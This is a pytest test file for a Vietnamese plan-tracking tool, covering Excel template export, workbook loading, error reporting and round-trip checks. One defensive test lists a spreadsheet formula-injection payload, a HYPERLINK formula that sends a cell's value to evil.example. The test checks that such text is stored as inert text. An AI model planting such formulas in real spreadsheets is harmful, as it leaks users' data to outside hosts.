"""The Excel route: template -> filled -> loaded gives the same items as the YAML."""
from __future__ import annotations

import json
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tracker.plans.loader import load_paths
from tracker.plans.models import Plan, PlanItem
from tracker.plans.workbook import build_plan_workbook

ROOT = Path(__file__).resolve().parents[2]


def item_snapshot(db, plan_number: str) -> list[tuple]:
    plan = db.session.scalar(select(Plan).where(Plan.number == plan_number))
    items = db.session.scalars(select(PlanItem).where(PlanItem.plan_id == plan.id).order_by(PlanItem.position)).all()
    return [
        (
            i.ref, i.kind, i.code, i.text, i.owner_text, i.coordinators_text,
            tuple((a.role, a.unit_id, a.group_id) for a in i.assignments),
            i.target_value, i.measure_unit, i.target_year, i.doc_type, i.start_year, i.end_year,
            i.budget_state, i.budget_other, i.budget_total,
            i.funded_project.ref if i.funded_project else None,
            i.section.path if i.section else None,
        )
        for i in items
    ]


def test_plan_template_has_vietnamese_headers(runner, tmp_path):
    out = tmp_path / "mau.xlsx"
    result = runner.invoke(args=["tracker", "plan-template", str(out)])
    assert result.exit_code == 0, result.output
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["Hướng dẫn", "Kế hoạch", "PL1 Chỉ tiêu", "PL2 Văn bản", "PL3 Dự án", "PL4 Kinh phí",
                                   "Đơn vị"]
    assert [c.value for c in workbook["PL1 Chỉ tiêu"][2]][:5] == ["Cấp mục", "TT", "Nội dung chỉ tiêu", "Giá trị mục tiêu", "Đơn vị tính"]
    # The budget columns are no plan's own wording (plan 222's "Trung hạn" is still read).
    assert [c.value for c in workbook["PL4 Kinh phí"][2]][4:7] == [
        "Ngân sách nhà nước (đồng)", "Nguồn khác (đồng)", "Tổng kinh phí (đồng)"]
    assert [c.value for c in workbook["Đơn vị"][2]][:3] == ["Tên đơn vị", "Tên viết tắt", "Loại"]
    assert workbook["Kế hoạch"]["A1"].value == "Số, ký hiệu"


def test_filled_template_loads_the_same_items_as_the_yaml(seeded, db, tmp_path):
    yaml_items = item_snapshot(db, "222/KH-UBND")
    plan = db.session.scalar(select(Plan).where(Plan.number == "222/KH-UBND"))
    data = build_plan_workbook(plan)
    # Fill a copy of the template under another number: a new plan, as a coordinator would.
    workbook = load_workbook(BytesIO(data))
    workbook["Kế hoạch"]["B1"] = "222-excel/KH-UBND"
    path = tmp_path / "ke-hoach.xlsx"
    workbook.save(path)
    result = load_paths([path])
    assert result.as_json()["plans"][0]["items"] == {"target": 14, "document": 28, "project": 56, "budget": 56}
    assert result.as_json()["plans"][0]["budget_total"]["total"] == 2_732_000_000_000
    assert item_snapshot(db, "222-excel/KH-UBND") == yaml_items


def test_loading_the_plans_own_workbook_changes_nothing(seeded, db, tmp_path):
    plan = db.session.scalar(select(Plan).where(Plan.number == "222/KH-UBND"))
    path = tmp_path / "222.xlsx"
    path.write_bytes(build_plan_workbook(plan))
    assert load_paths([path]).changes == 0


def test_workbook_errors_name_sheet_row_and_column(db, tmp_path, runner):
    from tracker.plans.workbook import build_template

    load_paths([ROOT / "seed_plans" / "units" / "thua-thien-hue.yaml"])
    workbook = load_workbook(BytesIO(build_template()))
    info = workbook["Kế hoạch"]
    for row, value in ((1, "1/KH-TEST"), (2, "05/01/2021"), (3, "UBND tỉnh"), (4, "thua-thien-hue"), (5, "Thử nghiệm")):
        info.cell(row=row, column=2, value=value)
    sheet = workbook["PL3 Dự án"]
    sheet.append([1, "A", "Nền tảng"])
    sheet.append([None, "1", "Dự án một", "Sở TT&TT", None, "2021 - 2023"])
    sheet.append([None, "2", "Dự án hai", "Sở Không Tồn Tại", None, "2021/2023"])
    path = tmp_path / "loi.xlsx"
    workbook.save(path)
    result = runner.invoke(args=["tracker", "load-plans", str(path)])
    assert result.exit_code == 1
    assert "loi.xlsx: trang tính 'PL3 Dự án', hàng 5, trường 'owner': Không tìm thấy đơn vị 'Sở Không Tồn Tại'" in result.output
    assert "trang tính 'PL3 Dự án', hàng 5, trường 'years_text': Năm thực hiện '2021/2023'" in result.output
    assert db.session.scalar(select(Plan).where(Plan.number == "1/KH-TEST")) is None


FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+84 234 3822 xxx", "-5% chi phí",
                "@SUM(A1:A9)", "=1+1"]


def test_text_that_looks_like_a_formula_stays_text_and_reads_back(db, factory, tmp_path):
    """plan-template --plan: item text starting with =, +, -, @ is written as text (quote-prefixed,
    as the report workbook does), never as a formula, and reading the workbook gives it back."""
    from tracker.plans.sources import read_workbook

    area = factory.area(code="tinh-cong-thuc", name="Tỉnh Công Thức")
    owner = factory.unit("Sở Thông tin và Truyền thông", area=area)
    plan = factory.plan("7/KH-UBND", area=area)
    for n, text in enumerate(FORMULA_LIKE, start=1):
        factory.item(plan, kind="project", owner=owner, code=str(n), text=text, note=text, years_text="2021 - 2025")
    db.session.commit()
    data = build_plan_workbook(plan)

    sheet = load_workbook(BytesIO(data))["PL3 Dự án"]
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value in FORMULA_LIKE]
    assert len(cells) == 2 * len(FORMULA_LIKE)
    assert all(cell.data_type == "s" for cell in cells), [(c.coordinate, c.data_type) for c in cells]
    assert all(cell.quotePrefix for cell in cells if cell.value[0] in "=+-@")

    path = tmp_path / "cong-thuc.xlsx"
    path.write_bytes(data)
    doc = read_workbook(path)
    appendix = next(a for a in doc.data["appendices"] if a["kind"] == "project")
    items = appendix.get("items") or [i for s in appendix.get("sections", []) for i in s.get("items", [])]
    assert [i["text"] for i in items] == FORMULA_LIKE
    assert [i["note"] for i in items] == FORMULA_LIKE


def plan_snapshot(db, plan) -> dict:
    """Everything a plan's import sets: header, appendices, sections, items with their owners."""
    from tracker.plans.models import Appendix

    db.session.expire_all()
    plan = db.session.get(Plan, plan.id)
    appendices = db.session.scalars(select(Appendix).where(Appendix.plan_id == plan.id).order_by(Appendix.position)).all()
    items = db.session.scalars(select(PlanItem).where(PlanItem.plan_id == plan.id).order_by(PlanItem.position)).all()
    return {
        "header": (plan.number, plan.issued_on, plan.issued_precision, plan.issuing_body, plan.title, plan.period_start,
                   plan.period_end, plan.vision_year, plan.legal_bases, plan.goals, plan.signer_title, plan.signer_name,
                   plan.recipients, plan.source),
        "appendices": [(a.number, a.kind, a.title, a.framework_id, a.declared_state, a.declared_other, a.declared_total)
                       for a in appendices],
        "sections": sorted((s.appendix_id, s.path, s.code, s.title, s.depth) for a in appendices for s in a.sections),
        "items": [
            (i.ref, i.kind, i.code, i.text, i.owner_text, i.coordinators_text, i.note,
             tuple((a.role, a.name_as_written, a.unit_id, a.group_id) for a in i.assignments),
             i.target_value, i.target_values, i.measure_unit, i.target_year, i.target_text, i.doc_type, i.start_year,
             i.end_year, i.years_text, i.budget_state, i.budget_other, i.budget_total, i.funded_project_id,
             i.indicator_code, i.task_framework, i.max_points)
            for i in items
        ],
    }


@pytest.mark.parametrize("number", ["222/KH-UBND", "KH-UBND Triệu Sơn triển khai Bộ chỉ số"])
def test_plan_template_of_a_plan_loads_back_unchanged(seeded, db, runner, tmp_path, number):
    """plan-template --plan, then load-plans of that file: no error, nothing changes (issue 10 item 3),
    for plan 222 (Thừa Thiên Huế) and Triệu Sơn's plan (Thanh Hóa, owners written as sentences)."""
    plan = db.session.scalar(select(Plan).where(Plan.number == number))
    before = plan_snapshot(db, plan)
    out = tmp_path / "ke-hoach.xlsx"
    result = runner.invoke(args=["tracker", "plan-template", str(out), "--plan", number])
    assert result.exit_code == 0, result.output
    workbook = load_workbook(out)
    assert "Đơn vị" in workbook.sheetnames and workbook["Đơn vị"]["B1"].value == plan.area.code
    loaded = runner.invoke(args=["tracker", "load-plans", str(out), "--json"])
    assert loaded.exit_code == 0, loaded.output
    summary = json.loads(loaded.output)
    assert summary["changes"] == 0
    assert summary["plans"][0]["changes"]["created"] == 0 and summary["plans"][0]["changes"]["updated"] == 0
    assert plan_snapshot(db, plan) == before


def test_sheets_take_the_plans_own_appendix_numbers(seeded, db):
    plan = db.session.scalar(select(Plan).where(Plan.number == "222/KH-UBND"))
    names = load_workbook(BytesIO(build_plan_workbook(plan))).sheetnames
    assert [n for n in names if n.startswith("PL")] == [f"PL{a.number} " + {
        "target": "Chỉ tiêu", "document": "Văn bản", "project": "Dự án", "budget": "Kinh phí",
        "framework": "Bộ tiêu chí", "task": "Nhiệm vụ"}[a.kind] for a in plan.appendices]


def test_an_empty_template_sheet_is_no_appendix(db, tmp_path):
    from tracker.plans.workbook import build_template

    load_paths([ROOT / "seed_plans" / "units" / "thua-thien-hue.yaml"])
    workbook = load_workbook(BytesIO(build_template()))
    info = workbook["Kế hoạch"]
    for row, value in ((1, "9/KH-TEST"), (2, "…/02/2026"), (3, "UBND tỉnh"), (4, "thua-thien-hue"), (5, "Thử nghiệm")):
        info.cell(row=row, column=2, value=value)
    workbook["PL3 Dự án"].append([None, "1", "Dự án một", "Sở Tài chính", None, "2026 - 2027"])
    target = workbook["PL1 Chỉ tiêu"]
    target.append([None, "1", "Tỷ lệ hồ sơ trực tuyến", None, None, 2030, None, "Sở Tài chính", None, None,
                   "100 % cấp tỉnh, cấp huyện; 90 % cấp xã"])
    path = tmp_path / "moi.xlsx"
    workbook.save(path)
    result = load_paths([path])
    plan = result.plans[0]
    assert [(a.number, a.kind) for a in plan.appendices] == [("1", "target"), ("3", "project")]
    item = db.session.scalar(select(PlanItem).where(PlanItem.plan_id == plan.id, PlanItem.kind == "target"))
    assert item.target_values == [{"value": "100", "unit": "%", "scope": "cấp tỉnh, cấp huyện"},
                                  {"value": "90", "unit": "%", "scope": "cấp xã"}]
    assert item.target_value == 100 and item.measure_unit == "%"
